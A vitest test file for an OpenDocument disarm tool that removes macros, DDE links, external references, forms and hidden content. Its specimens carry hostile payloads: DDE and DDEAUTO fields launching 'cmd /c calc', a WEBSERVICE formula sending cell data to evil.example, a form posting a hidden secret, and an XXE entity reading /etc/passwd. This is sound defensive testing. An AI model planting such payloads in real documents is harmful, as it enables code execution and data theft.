import { describe, expect, it } from 'vitest'
import { verifyClean } from '../../verify/index.ts'
import { disarmBytes } from '../engine.ts'
import { Context } from '../family.ts'
import type { Profile } from '../profile.ts'
import { readEntry, readZip } from '../zip/read.ts'
import { writeZip } from '../zip/write.ts'
import type { Specimen } from './specimen.test-support.ts'
import {
  PICTURE,
  content,
  encrypted,
  frame,
  image,
  mimetypeOf,
  odf,
  part,
  sheet,
} from './specimen.test-support.ts'

interface Outcome {
  readonly reason: string
  readonly removed: readonly string[]
  readonly kept: readonly string[]
  /** Every part of the output as text. */
  readonly text: string
  readonly names: readonly string[]
}

function outcome(specimen: Specimen, profile: Partial<Profile> = {}): Outcome {
  const { report, output } = disarmBytes(odf(specimen), specimen.type, { profile })
  const rules = (rows: readonly { readonly rule: string }[]) => [
    ...new Set(rows.map(({ rule }) => rule)),
  ]
  const found = {
    reason: report.reason ?? '',
    removed: rules(report.removed),
    kept: rules(report.kept),
  }
  if (!output) return { ...found, text: '', names: [] }
  expect(verifyClean(output, specimen.type)).toEqual({ clean: true, type: specimen.type })
  if (specimen.type.startsWith('f'))
    return { ...found, text: Buffer.from(output).toString(), names: [] }
  const context = new Context()
  const zip = readZip(output, context)
  const parts = zip.entries.map((entry) => Buffer.from(readEntry(zip, entry, context)).toString())
  return { ...found, text: parts.join('\n'), names: zip.entries.map(({ name }) => name) }
}

function manifestFor(type: string): string {
  return `<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry m:full-path="/" m:media-type="${mimetypeOf(type)}"/></m:manifest>`
}

function without(bytes: Uint8Array, lost: string): Uint8Array {
  const context = new Context()
  const zip = readZip(bytes, context)
  const kept = zip.entries.filter(({ name }) => name !== lost)
  return writeZip(
    kept.map((entry) => ({ name: entry.name, bytes: readEntry(zip, entry, context) })),
  )
}

/** What must be reported, what may be nowhere in the output, what must be there. */
type Row = readonly [what: string, specimen: Specimen, rule: string, gone: RegExp, stays: string]

const p = (text: string): string => `<text:p>${text}</text:p>`
const listener =
  '<office:event-listeners><script:event-listener script:event-name="dom:load" script:language="ooo:script" ' +
  'xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners>'

const ROWS: readonly Row[] = [
  [
    'Basic libraries of the package',
    {
      type: 'odt',
      body: p('本文'),
      members: { 'Basic/Standard/Module1.xml': '<a/>', 'Basic/script-lc.xml': '<a/>' },
    },
    'ODF-MACRO',
    /Module1|Basic/,
    '本文',
  ],
  [
    'Python scripts of the package',
    { type: 'odt', body: p('本文'), members: { 'Scripts/python/evil.py': 'import os' } },
    'ODF-MACRO',
    /import os/,
    '本文',
  ],
  [
    'scripts in the content',
    {
      type: 'odt',
      before:
        '<office:scripts><office:script script:language="ooo:Basic">x</office:script></office:scripts>',
      body: p('本文'),
    },
    'ODF-MACRO',
    /script/i,
    '本文',
  ],
  [
    'a link to a macro',
    {
      type: 'odt',
      body: p('<text:a xlink:href="vnd.sun.star.script:M.Main?language=Basic">押す</text:a>'),
    },
    'ODF-MACRO',
    /vnd\.sun/,
    '押す',
  ],
  [
    'a field that runs a macro',
    { type: 'odt', body: p('<text:execute-macro text:name="M">押す</text:execute-macro>') },
    'ODF-MACRO',
    /execute-macro/,
    '押す',
  ],
  [
    'a macro behind a validation of cells',
    {
      type: 'ods',
      body:
        '<table:content-validations><table:content-validation table:name="v" table:condition="of:cell-content()&gt;1">' +
        '<table:error-macro table:execute="true" table:name="M"/></table:content-validation></table:content-validations>' +
        sheet('of:=1'),
    },
    'ODF-MACRO',
    /error-macro/,
    'cell-content()',
  ],
  [
    'what happens when the document opens',
    { type: 'odt', body: listener + p('本文') },
    'ODF-EVENT',
    /listener|dom:load/,
    '本文',
  ],
  [
    'what happens when a shape is pressed',
    {
      type: 'odp',
      body:
        '<draw:page draw:name="1"><draw:rect><office:event-listeners><presentation:event-listener presentation:action="execute" ' +
        `xlink:href="file:///C:/Windows/System32/calc.exe"/></office:event-listeners>${p('四角')}</draw:rect></draw:page>`,
    },
    'ODF-EVENT',
    /calc\.exe|listener/,
    '四角',
  ],
  [
    'a command of an animation',
    {
      type: 'odp',
      body: '<draw:page draw:name="1"><anim:par><anim:command anim:command="x"/><anim:audio xlink:href="a.wav"/></anim:par></draw:page>',
    },
    'ODF-OBJ',
    /command|audio/,
    'anim:par',
  ],
  [
    'an OLE object, whose picture stays',
    {
      type: 'odt',
      body: frame(
        `<draw:object-ole xlink:href="./Object 1"/>${image('./ObjectReplacements/Object 1')}`,
      ),
      members: { 'Object 1': 'OLE!', 'ObjectReplacements/Object 1': PICTURE },
    },
    'ODF-OBJ',
    /object-ole|OLE!/,
    'Pictures/1.png',
  ],
  [
    'a plug-in',
    {
      type: 'odt',
      body: frame(
        '<draw:plugin xlink:href="http://evil.example/a.swf" draw:mime-type="application/x-shockwave-flash"/>',
      ),
    },
    'ODF-OBJ',
    /swf|plugin/,
    'Pictures/1.png',
  ],
  [
    'an applet',
    {
      type: 'odt',
      body: frame('<draw:applet draw:code="E.class" xlink:href="http://evil.example/"/>'),
    },
    'ODF-OBJ',
    /applet|evil/,
    'draw:frame',
  ],
  [
    'a frame that shows a web page',
    { type: 'odt', body: frame('<draw:floating-frame xlink:href="http://evil.example/"/>') },
    'ODF-OBJ',
    /floating|evil/,
    'draw:frame',
  ],
  [
    'a picture from the network',
    { type: 'odt', body: frame(image('http://evil.example/a.png')) },
    'ODF-LINK',
    /evil/,
    'Pictures/1.png',
  ],
  [
    'a picture from a share',
    { type: 'odt', body: frame(image('//evil/share/a.png')) },
    'ODF-LINK',
    /evil/,
    'Pictures/1.png',
  ],
  [
    'a picture outside of the package',
    { type: 'odt', body: frame(image('../../etc/a.png')) },
    'ODF-LINK',
    /etc/,
    'Pictures/1.png',
  ],
  [
    'a section out of another file',
    {
      type: 'odt',
      body: `<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/>${p('前回の値')}</text:section>`,
    },
    'ODF-LINK',
    /passwd|section-source/,
    '前回の値',
  ],
  [
    'a DDE field',
    {
      type: 'odt',
      body:
        '<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="a"/></text:dde-connection-decls>' +
        p('<text:dde-connection text:connection-name="d">前回の値</text:dde-connection>'),
    },
    'ODF-LINK',
    /dde|calc/,
    '前回の値',
  ],
  [
    'DDE links of a spreadsheet',
    {
      type: 'ods',
      body: `${sheet('of:=1')}<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="a"/></table:dde-link></table:dde-links>`,
    },
    'ODF-LINK',
    /dde|calc/,
    '表 1',
  ],
  [
    'the formula DDE',
    { type: 'ods', body: sheet('of:=DDE("cmd";"/c calc.exe";"A1")') },
    'ODF-LINK',
    /DDE|calc/,
    'office:value="7"',
  ],
  [
    'the formula WEBSERVICE',
    { type: 'ods', body: sheet('of:=COM.MICROSOFT.WEBSERVICE("http://evil.example/"&[.A1])') },
    'ODF-LINK',
    /evil/,
    'office:value="7"',
  ],
  [
    'a cell of another file',
    { type: 'ods', body: sheet("of:=['file:///etc/passwd'#$Sheet1.A1]") },
    'ODF-LINK',
    /passwd/,
    'office:value="7"',
  ],
  [
    'a cell of another file by INDIRECT',
    { type: 'ods', body: sheet(`of:=INDIRECT("'file:///etc/passwd'#$Sheet1.A1")`) },
    'ODF-LINK',
    /passwd/,
    'office:value="7"',
  ],
  [
    'a link to a program as a formula',
    { type: 'ods', body: sheet('of:=HYPERLINK("file:///C:/Windows/System32/calc.exe")') },
    'ODF-LINK',
    /calc/,
    'office:value="7"',
  ],
  [
    'a macro as a formula',
    { type: 'ods', body: sheet('of:=MYMACRO()') },
    'ODF-LINK',
    /MYMACRO/,
    'office:value="7"',
  ],
  [
    'a sheet out of another file',
    {
      type: 'ods',
      body: sheet('of:=1').replace(
        '<table:table-row>',
        '<table:table-source xlink:href="http://evil.example/a.ods"/><table:table-row>',
      ),
    },
    'ODF-LINK',
    /evil|table-source/,
    'office:value="7"',
  ],
  [
    'the cache of another file',
    {
      type: 'ods',
      body: `${sheet('of:=1')}<table:table table:name="'file:///etc/b.ods'#S"><table:table-row/></table:table>`,
    },
    'ODF-LINK',
    /b\.ods/,
    'office:value="7"',
  ],
  [
    'a query of a database behind a range',
    {
      type: 'ods',
      body: `${sheet('of:=1')}<table:database-ranges><table:database-range table:name="d" table:target-range-address="$'表 1'.A1"><table:database-source-sql table:database-name="x" table:sql-statement="DROP"/></table:database-range></table:database-ranges>`,
    },
    'ODF-LINK',
    /DROP|database-source/,
    'table:database-range ',
  ],
  [
    'a form that sends',
    {
      type: 'odt',
      body: `<office:forms><form:form form:name="f" xlink:href="http://evil.example/"><form:text form:name="t" form:current-value="値" form:control-implementation="ooo:com.sun.star.form.component.TextField"><office:event-listeners><script:event-listener script:event-name="x"/></office:event-listeners></form:text><form:hidden form:name="h" form:value="secret"/></form:form></office:forms>${p('本文')}`,
    },
    'ODF-FORM',
    /evil|secret|listener/,
    'form:current-value="値"',
  ],
  [
    'a control that is another service',
    {
      type: 'odt',
      body: `<office:forms><form:form><form:text form:control-implementation="ooo:com.sun.star.bridge.OleObject"/></form:form></office:forms>${p('本文')}`,
    },
    'ODF-FORM',
    /bridge/,
    'form:text',
  ],
  [
    'author, time and program',
    {
      type: 'odt',
      body: p('本文'),
      meta: '<office:meta><meta:generator>G</meta:generator><dc:creator>山田</dc:creator><meta:template xlink:href="http://evil.example/t.ott"/></office:meta>',
      members: {
        'Thumbnails/thumbnail.png': PICTURE,
        'manifest.rdf': '<a/>',
        'Configurations2/accelerator/current.xml': '<a/>',
      },
    },
    'ODF-META',
    /山田|evil|Thumbnails|Configurations2|rdf/,
    '本文',
  ],
  [
    'printers and update modes of the settings',
    {
      type: 'odt',
      body: p('本文'),
      settings:
        '<office:settings><config:config-item-set config:name="ooo:configuration-settings"><config:config-item config:name="PrinterSetup" config:type="base64Binary">QUJD</config:config-item>' +
        '<config:config-item config:name="LinkUpdateMode" config:type="short">2</config:config-item>' +
        '<config:config-item config:name="TabsRelativeToIndent" config:type="boolean">false</config:config-item></config:config-item-set></office:settings>',
    },
    'ODF-META',
    /Printer|LinkUpdate/,
    'TabsRelativeToIndent',
  ],
  [
    'signatures',
    {
      type: 'odt',
      body: p('本文'),
      members: {
        'META-INF/documentsignatures.xml': '<a/>',
        'META-INF/macrosignatures.xml': '<a/>',
      },
    },
    'ODF-SIG',
    /signatures/,
    '本文',
  ],
  [
    'members that nothing names',
    { type: 'odt', body: p('本文'), members: { 'evil.exe': 'MZ', 'Pictures/unused.png': PICTURE } },
    'ODF-PKG',
    /evil\.exe|unused/,
    '本文',
  ],
  [
    'elements of another vocabulary, whose words stay',
    { type: 'odt', body: p('<foreign:x foreign:y="1">本文</foreign:x>') },
    'ODF-PKG',
    /foreign/,
    '本文',
  ],
  [
    'fonts inside',
    {
      type: 'odt',
      before:
        '<office:font-face-decls><style:font-face style:name="F" svg:font-family="F"><svg:font-face-src><svg:font-face-uri xlink:href="Fonts/f.ttf"/></svg:font-face-src></style:font-face></office:font-face-decls>',
      body: p('本文'),
      members: { 'Fonts/f.ttf': 'font' },
    },
    'OX-FONT',
    /Fonts\//,
    'svg:font-family="F"',
  ],
  [
    'scripts in a flat file',
    {
      type: 'fodt',
      before:
        '<office:scripts><office:script script:language="ooo:Basic">x</office:script></office:scripts>',
      body: p('本文'),
    },
    'ODF-MACRO',
    /script:/,
    '本文',
  ],
  [
    'a picture from the network in a flat file',
    { type: 'fodt', body: frame(image('http://evil.example/a.png')) },
    'ODF-LINK',
    /evil/,
    'office:binary-data',
  ],
  [
    'an OLE object in a flat file',
    {
      type: 'fodt',
      body: frame(
        '<draw:object-ole><office:binary-data>0M8R4KGxGuE=</office:binary-data></draw:object-ole>',
      ),
    },
    'ODF-OBJ',
    /0M8R4/,
    'draw:frame',
  ],
  [
    'bytes in a flat picture that are no picture',
    {
      type: 'fodt',
      body: frame('<draw:image><office:binary-data>TVqQAAMAAAA=</office:binary-data></draw:image>'),
    },
    'OX-MEDIA',
    /TVqQ/,
    'office:binary-data',
  ],
  [
    'a link that is no web page',
    { type: 'odt', body: p('<text:a xlink:href="file://evil/share/a.docm">文書</text:a>') },
    'ODF-LINK',
    /evil/,
    '文書',
  ],
  [
    'where the linked page would open',
    { type: 'odt', body: p('<draw:a xlink:href="search-ms:x">文</draw:a>') },
    'ODF-LINK',
    /search-ms/,
    '文',
  ],
  [
    'an image map that leads to a file',
    {
      type: 'odt',
      body: frame(
        `${image('Pictures/a.png')}<draw:image-map><draw:area-rectangle xlink:href="file:///c:/x.exe"/></draw:image-map>`,
      ),
      members: { 'Pictures/a.png': PICTURE },
    },
    'ODF-LINK',
    /x\.exe/,
    'Pictures/1.png',
  ],
  [
    'a field of Word that is not for filling in',
    {
      type: 'odt',
      body: p(
        '<field:fieldmark-start field:type="vnd.oasis.opendocument.field.UNHANDLED"><field:param field:name="vnd.oasis.opendocument.field.code" field:value=" DDEAUTO cmd "/></field:fieldmark-start>値<field:fieldmark-end/>',
      ),
    },
    'ODF-LINK',
    /DDEAUTO|fieldmark/,
    '値',
  ],
]

describe('what acts in an OpenDocument file does not come out, and its words do', () => {
  it.each(ROWS)('%s', (_, specimen, rule, gone, stays) => {
    const { removed, text, names } = outcome(specimen)
    expect(removed).toContain(rule)
    expect(`${text}\n${names.join('\n')}`).not.toMatch(gone)
    expect(text).toContain(stays)
  })
})

describe('what a document is made of stays', () => {
  it.each(['odt', 'ods', 'odp', 'odg', 'ott', 'ots', 'otp', 'otg', 'fodt', 'fods', 'fodp', 'fodg'])(
    '%s comes out as %s, with nothing removed',
    (type) => {
      const body =
        type.endsWith('dt') || type.endsWith('tt')
          ? p('葛\u{E0102}城 𠮷田 髙橋<text:s text:c="3"/><text:tab/>終')
          : type.endsWith('ds') || type.endsWith('ts')
            ? sheet("of:=SUM([.A1:.B2];[$'表 1'.C3])")
            : '<draw:page draw:name="1" draw:master-page-name="M"><draw:rect svg:x="1cm"><text:p>葛\u{E0102}城</text:p></draw:rect></draw:page>'
      const { removed, reason, text } = outcome({ type, body })
      expect([reason, ...removed]).toEqual([''])
      expect(text).toMatch(/葛\u{E0102}城|表 1/u)
    },
  )

  it('a picture, its place and a link to a web page', () => {
    const link =
      '<text:a xlink:href="https://www.example.jp/">頁</text:a><text:a xlink:href="#表 1.A1">所</text:a>'
    const { removed, text, names } = outcome({
      type: 'odt',
      body: frame(image('Pictures/a.png')) + p(link),
      members: { 'Pictures/a.png': PICTURE },
    })
    expect(removed).toEqual([])
    expect(names).toContain('Pictures/1.png')
    expect(text).toContain('xlink:href="https://www.example.jp/"')
    expect(text).toContain('xlink:href="#表 1.A1"')
  })

  it('a chart and a formula inside, cleaned by the same rules', () => {
    const object = (n: number): string =>
      frame(
        `<draw:object xlink:href="./Object ${n}" xlink:type="simple"/>${image(`./ObjectReplacements/Object ${n}`)}`,
      )
    const { removed, names, text } = outcome({
      type: 'odt',
      body: object(7) + object(3),
      members: {
        'Object 7/content.xml': content(
          'chart',
          '<office:scripts><office:script>x</office:script></office:scripts>',
          '<chart:chart xlink:href=".." chart:class="chart:bar"/>',
        ),
        'ObjectReplacements/Object 7': PICTURE,
        'Object 3/content.xml':
          '<math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mi mathvariant="normal">x</mi><annotation encoding="StarMath 5.0">x</annotation></semantics></math>',
      },
    })
    expect(removed).toEqual(['ODF-MACRO', 'ODF-PKG'])
    expect(names).toEqual([
      'mimetype',
      'content.xml',
      'ObjectReplacements/Object 1',
      'Object 1/content.xml',
      'Object 2/content.xml',
      'META-INF/manifest.xml',
    ])
    expect(text).toContain('<math:mi mathvariant="normal">x</math:mi>')
  })

  it('documents inside documents end at the fourth', () => {
    const object = frame('<draw:object xlink:href="./Object 1"/>')
    const members: Record<string, Uint8Array> = {}
    let folder = ''
    for (let depth = 0; depth < 6; depth++) {
      folder += 'Object 1/'
      members[`${folder}content.xml`] = content('odt', '', object)
    }
    const { removed, names } = outcome({ type: 'odt', body: object, members })
    expect(removed).toContain('ODF-OBJ')
    expect(names.filter((name) => name.endsWith('content.xml'))).toHaveLength(5)
  })

  it.each([
    'of:=IF([.A1]>0;"a|b";{1;TRUE|-2;"x"})',
    'of:=COM.MICROSOFT.CONCAT([.A1:.B2])&ORG.OPENOFFICE.WEEKS([.A1];[.B1];0)',
    'oooc:=SUM([.A1])',
    'of:=HYPERLINK("https://www.example.jp/";"頁")',
    'of:=[.#REF!]+#N/A',
    'of:=MULTIPLE.OPERATIONS([.B1];[.A1];[.A2])',
    'of:=10-SUM([.A1])',
  ])('the formula %s', (formula) => {
    const { removed, text } = outcome({ type: 'ods', body: sheet(formula) })
    expect(removed).toEqual([])
    const written = formula
      .replaceAll('&', '&amp;')
      .replaceAll('"', '&quot;')
      .replaceAll('>', '&gt;')
    expect(text).toContain(`table:formula="${written}"`)
  })

  it('one body: a second one is read by one program and not by another', () => {
    const one = Buffer.from(content('odt', '', p('本文'))).toString()
    const second = '<office:body><office:text><text:p>別</text:p></office:text></office:body>'
    for (const place of ['</office:text>', '</office:body>']) {
      const twice = one.replace(
        place,
        `${place}${place === '</office:text>' ? '<office:text><text:p>別</text:p></office:text>' : second}`,
      )
      const { removed, text } = outcome({ type: 'odt', content: twice })
      expect(removed).toEqual(['ODF-PKG'])
      expect(text).toContain('本文')
      expect(text).not.toContain('別')
    }
  })

  it('a drawing in SVG, written anew', () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>x</script><rect width="3" height="3"/></svg>'
    const { names, text } = outcome({
      type: 'odt',
      body: frame(image('Pictures/a.svg')),
      members: { 'Pictures/a.svg': svg },
    })
    expect(names).toContain('Pictures/1.svg')
    expect(text).not.toContain('script')
  })

  it('the slides of a template without numbers, and unknown settings, are no reason to refuse', () => {
    const settings =
      '<office:settings><config:config-item-set config:name="ooo:other"/></office:settings>'
    expect(outcome({ type: 'otp', body: '<draw:page/>', settings }).reason).toBe('')
  })

  it('the empty shells of scripts in flat files are no macros', () => {
    const before =
      '<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries/></office:script></office:scripts>'
    expect(outcome({ type: 'fodt', before, body: p('本文') }).removed).toEqual([])
    const filled = before.replace(
      '<ooo:libraries/>',
      '<ooo:libraries><ooo:library-embedded ooo:name="M"/></ooo:libraries>',
    )
    expect(outcome({ type: 'fodt', before: filled, body: p('本文') }).removed).toEqual([
      'ODF-MACRO',
    ])
  })

  it('a manifest that lies is not believed', () => {
    const manifest =
      '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/x-msdownload"/></manifest:manifest>'
    expect(outcome({ type: 'odt', body: p('本文'), manifest }).text).not.toContain('msdownload')
  })

  it('a package that lost its mimetype is what its manifest says, and no bundle of XML files', () => {
    const whole = odf({ type: 'odt', body: p('本文'), manifest: manifestFor('odt') })
    const { report, output } = disarmBytes(without(whole, 'mimetype'), 'odt')
    expect(report.outputType).toBe('odt')
    expect(verifyClean(output ?? new Uint8Array(), 'odt')).toEqual({ clean: true, type: 'odt' })
    const unknown = odf({ type: 'odt', body: p('本文'), manifest: manifestFor('zip') })
    expect(disarmBytes(without(unknown, 'mimetype'), 'odt').report.outputType).not.toBe('odt')
    const jar = odf({
      type: 'odt',
      manifest: manifestFor('odt'),
      members: { 'META-INF/MANIFEST.MF': 'Main-Class: A' },
    })
    expect(disarmBytes(without(jar, 'mimetype'), 'odt').report.reason).toBe('TYPE-DENIED')
  })

  it('a letter around a chart that cannot be read, and the picture of the chart', () => {
    const { removed, text, names } = outcome({
      type: 'odt',
      body:
        p('本文') +
        frame(`<draw:object xlink:href="./Object 1"/>${image('./ObjectReplacements/Object 1')}`),
      members: {
        'Object 1/content.xml': '<office:document-content xmlns:office="x"><broken',
        'ObjectReplacements/Object 1': PICTURE,
      },
    })
    expect(removed).toEqual(['ODF-OBJ'])
    expect(text).toContain('本文')
    expect(names.filter((name) => name.endsWith('.png'))).toHaveLength(1)
  })

  it('a text whose settings are something else, without them', () => {
    const specimen = { type: 'odt', body: p('本文') }
    const members = { 'settings.xml': part('document-styles', '') }
    expect(outcome({ ...specimen, members }).removed).toEqual(['ODF-META'])
    expect(
      outcome({ ...specimen, members: { 'styles.xml': part('document-meta', '') } }).reason,
    ).toBe('ODF-PKG')
  })

  it('a prefix that nothing declares is called what it is: broken XML', () => {
    const undeclared = Buffer.from(content('odt', '', '<text:p nobody:a="1">字</text:p>'))
    expect(outcome({ type: 'odt', content: undeclared.toString() }).reason).toBe('ODF-XML')
  })

  it('a DOCTYPE of old programs, which declares nothing', () => {
    const doctype =
      '<!DOCTYPE office:document-content PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "office.dtd">'
    const old = Buffer.from(content('odt', '', p('本文')))
      .toString()
      .replace('?>', `?>\n${doctype}`)
    const { removed, text } = outcome({ type: 'odt', content: old })
    expect(removed).toEqual(['OX-DTD'])
    expect(text).toContain('本文')
    expect(text).not.toContain('DOCTYPE')
  })

  it('a manifest whose prefix only a DTD declares, as the first OpenOffice wrote it', () => {
    const manifest =
      '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest:manifest/>'
    expect(outcome({ type: 'odt', body: p('本文'), manifest }).reason).toBe('')
  })
})

describe('what the profile decides', () => {
  const both = (
    specimen: Specimen,
    profile: Partial<Profile>,
    rule: string,
    word: string,
  ): void => {
    const kept = outcome(specimen)
    expect([kept.kept, kept.text.includes(word)]).toEqual([[rule], true])
    const gone = outcome(specimen, profile)
    expect([gone.removed, gone.text.includes(word)]).toEqual([[rule], false])
  }

  it('tracked changes stay and are reported, or are accepted', () => {
    const body =
      '<text:tracked-changes><text:changed-region text:id="c"><text:deletion><office:change-info><dc:creator>山田</dc:creator></office:change-info><text:p>秘密</text:p></text:deletion></text:changed-region></text:tracked-changes>' +
      p('本文<text:change text:change-id="c"/>')
    both({ type: 'odt', body }, { changes: 'accept' }, 'ODF-REV', '秘密')
  })

  it('comments stay and are reported, or go', () => {
    const body = p(
      '本文<office:annotation><dc:creator>山田</dc:creator><text:p>意見</text:p></office:annotation>',
    )
    both({ type: 'odt', body }, { comments: 'remove' }, 'ODF-REV', '意見')
  })

  it('a hidden sheet stays and is reported, or goes with the formulas that name it', () => {
    const before =
      '<office:automatic-styles><style:style style:name="h" style:family="table"><style:table-properties table:display="false"/></style:style></office:automatic-styles>'
    const body = `${sheet('of:=[$裏.A1]')}<table:table table:name="裏" table:style-name="h"><table:table-row><table:table-cell><text:p>秘密</text:p></table:table-cell></table:table-row></table:table>`
    const specimen = { type: 'ods', before, body }
    expect(outcome(specimen).kept).toEqual(['ODF-HIDDEN'])
    const gone = outcome(specimen, { hidden: 'remove' })
    expect(gone.removed).toEqual(['ODF-HIDDEN', 'ODF-LINK'])
    expect(gone.text).not.toMatch(/秘密|裏/)
    expect(gone.text).toContain('office:value="7"')
  })

  it.each([
    [
      'a hidden section',
      {
        type: 'odt',
        body: `<text:section text:name="s" text:display="none">${p('秘密')}</text:section>`,
      },
    ],
    [
      'words of a hiding style',
      {
        type: 'odt',
        before:
          '<office:automatic-styles><style:style style:name="T1" style:family="text"><style:text-properties text:display="none"/></style:style></office:automatic-styles>',
        body: p('本文<text:span text:style-name="T1">秘密</text:span>'),
      },
    ],
    [
      'a hidden slide',
      {
        type: 'odp',
        before:
          '<office:automatic-styles><style:style style:name="d1" style:family="drawing-page"><style:drawing-page-properties presentation:visibility="hidden"/></style:style></office:automatic-styles>',
        body: `<draw:page draw:style-name="d1"><draw:rect>${p('秘密')}</draw:rect></draw:page>`,
      },
    ],
    [
      'a folded row',
      {
        type: 'ods',
        body: '<table:table table:name="a"><table:table-row table:visibility="collapse"><table:table-cell office:value-type="string"><text:p>秘密</text:p></table:table-cell></table:table-row></table:table>',
      },
    ],
  ] satisfies readonly (readonly [string, Specimen])[])(
    '%s stays and is reported, or goes',
    (_, specimen) => {
      both(specimen, { hidden: 'remove' }, 'ODF-HIDDEN', '秘密')
    },
  )

  it('the title stays only when wanted', () => {
    const meta = '<office:meta><dc:title>題名</dc:title><dc:creator>山田</dc:creator></office:meta>'
    for (const type of ['odt', 'fodt']) {
      expect(outcome({ type, body: p('本文'), meta }).text).not.toContain('題名')
      const kept = outcome({ type, body: p('本文'), meta }, { title: 'keep' })
      expect([kept.text.includes('題名'), kept.text.includes('山田')]).toEqual([true, false])
      expect(kept.kept).toEqual(['OX-META'])
    }
  })

  it('links become words', () => {
    const body = p('<text:a xlink:href="https://www.example.jp/">頁</text:a>')
    const { removed, text } = outcome({ type: 'odt', body }, { links: 'text-only' })
    expect(removed).toEqual(['URL-REMOVED'])
    expect(text).toContain('頁')
    expect(text).not.toContain('example.jp')
  })
})

describe('what is refused', () => {
  const text = (inner: string): string => Buffer.from(content('odt', '', inner)).toString()
  it.each<readonly [string, Specimen, string]>([
    [
      'a spreadsheet that calls itself a text',
      { type: 'odt', content: Buffer.from(content('ods', '', '')).toString() },
      'ODF-PKG',
    ],
    [
      'a flat file that says two things',
      {
        type: 'fodt',
        content: Buffer.from(odf({ type: 'fodt' }))
          .toString()
          .replaceAll('office:text', 'office:chart'),
      },
      'ODF-PKG',
    ],
    ['no content', { type: 'odt', content: '' }, 'ODF-XML'],
    ['a root of something else', { type: 'odt', content: '<html/>' }, 'ODF-PKG'],
    ['broken XML', { type: 'odt', content: text('').replace('</office:body>', '') }, 'ODF-XML'],
    [
      'a DOCTYPE that declares entities',
      {
        type: 'odt',
        content: text('').replace('?>', '?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
      },
      'OX-DTD',
    ],
    [
      'a DOCTYPE that is fetched',
      {
        type: 'odt',
        content: text('').replace(
          '?>',
          '?><!DOCTYPE office:document-content PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "http://evil.example/a.dtd">',
        ),
      },
      'OX-DTD',
    ],
    [
      'cells that one element fills a billion of',
      {
        type: 'ods',
        body: sheet('of:=1')
          .replace('<table:table-row>', '<table:table-row table:number-rows-repeated="1048576">')
          .replace('office:value="7"', 'office:value="7" table:number-columns-repeated="1024"'),
      },
      'LIMIT-SIZE',
    ],
  ])('%s', (_, specimen, reason) => {
    expect(outcome(specimen).reason).toBe(reason)
  })
})

describe('a password', () => {
  const file = encrypted({ type: 'odt', body: p('本文') }, '合言葉')
  const reason = (password?: string): string | undefined =>
    disarmBytes(file, 'odt', password === undefined ? {} : { password }).report.reason

  it('is asked for, is checked, and opens the file', () => {
    expect([reason(), reason('違う'), reason('合言葉')]).toEqual([
      'ENCRYPTED',
      'PASSWORD-WRONG',
      undefined,
    ])
    const { output } = disarmBytes(file, 'odt', { password: '合言葉' })
    expect(verifyClean(output ?? new Uint8Array(), 'odt')).toEqual({ clean: true, type: 'odt' })
  })

  it('with a billion rounds is not tried', () => {
    expect(
      disarmBytes(encrypted({ type: 'odt' }, 'a', 1_000_000_000), 'odt', { password: 'a' }).report
        .reason,
    ).toBe('ENCRYPTED')
  })
})
